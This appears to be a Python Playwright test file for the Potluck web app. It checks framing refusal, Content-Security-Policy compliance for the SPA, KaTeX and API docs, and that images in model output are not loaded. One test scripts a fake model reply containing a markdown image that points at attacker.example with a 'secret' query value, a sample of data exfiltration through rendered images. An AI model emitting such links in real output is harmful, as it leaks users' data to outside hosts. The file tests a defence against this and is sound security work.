"""Issue 13, items 6, 7 and 13 in Chromium: Potluck cannot be framed (the SPA shell WhiteNoise
serves included), the SPA, KaTeX and the API docs work under the Content-Security-Policy with
no violation, and an image in model output fetches nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import ConsoleMessage, Page, Request, Route, expect

from tests.e2e.helpers import enable_model, log_in
from tests.e2e.live import LiveApp
from tests.fake_upstream.server import FakeUpstreamClient

pytestmark = pytest.mark.e2e

OWNER = {"email": "csp@acme.test", "password": "a long enough password 9"}


@pytest.fixture(scope="module")
def upstream(fake_upstream_url: str) -> FakeUpstreamClient:
    return FakeUpstreamClient(fake_upstream_url)


@pytest.fixture(scope="module")
def org(app: LiveApp) -> dict[str, str]:
    app.manage(
        "create_org",
        "--name",
        "Acme",
        "--owner-email",
        OWNER["email"],
        "--owner-password",
        OWNER["password"],
    )
    return OWNER


def _violations(page: Page) -> list[str]:
    found: list[str] = []

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            found.append(message.text)

    page.on("console", on_console)
    return found


@pytest.mark.parametrize("path", ["/index.html", "/login", "/admin/login/", "/api/docs/"])
def test_it_cannot_be_framed(page: Page, app: LiveApp, path: str) -> None:
    page.goto("/healthz")  # any page of ours: even a same-origin frame is refused
    page.set_content(f'<iframe id="victim" src="{app.url}{path}"></iframe>')
    page.wait_for_timeout(1000)
    [frame] = [f for f in page.frames if f != page.main_frame]
    # Chromium replaces a refused frame with its own error page: nothing of ours is in it.
    assert not frame.url.startswith(app.url)
    assert frame.locator("#root, #swagger-ui, #login-form").count() == 0


def test_it_runs_the_spa_and_katex_under_the_csp_and_never_loads_images(
    page: Page, app: LiveApp, upstream: FakeUpstreamClient, org: dict[str, str]
) -> None:
    violations = _violations(page)
    foreign: list[str] = []

    def on_request(request: Request) -> None:
        if not request.url.startswith((app.url, "data:", "blob:")):
            foreign.append(request.url)

    page.on("request", on_request)
    log_in(page, org["email"], org["password"])
    enable_model(
        page,
        base_url=f"{upstream.url}/ollama/v1",
        name="fake-csp",
        input_price="0.5",
        output_price="1.5",
    )
    page.goto("/chat")
    expect(page.get_by_text("Live")).to_be_visible()
    page.get_by_role("combobox", name="Model").select_option("fake-csp")
    upstream.script(
        provider="openai_compatible",
        text="Euler: $$e^{i\\pi} + 1 = 0$$ and ![leak](https://attacker.example/p.png?d=secret)",
        deltas=4,
    )
    box = page.get_by_role("textbox", name="Message")
    box.fill("Show me")
    box.press("Enter")
    expect(page.locator(".katex").first).to_be_visible()
    expect(page.get_by_role("link", name="Image: leak (not loaded)")).to_be_visible()
    assert page.locator("img[src*='attacker.example']").count() == 0
    assert foreign == []
    assert violations == []


def test_it_serves_working_api_docs_offline_under_the_csp(page: Page, app: LiveApp) -> None:
    violations = _violations(page)
    elsewhere: list[str] = []

    def offline(route: Route) -> None:
        # The network beyond this server is gone: a CDN request would fail here.
        if route.request.url.startswith(app.url):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", offline)
    page.goto("/api/docs/")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Potluck API")
    expect(page.locator(".opblock").first).to_be_visible()
    assert elsewhere == []
    assert violations == []
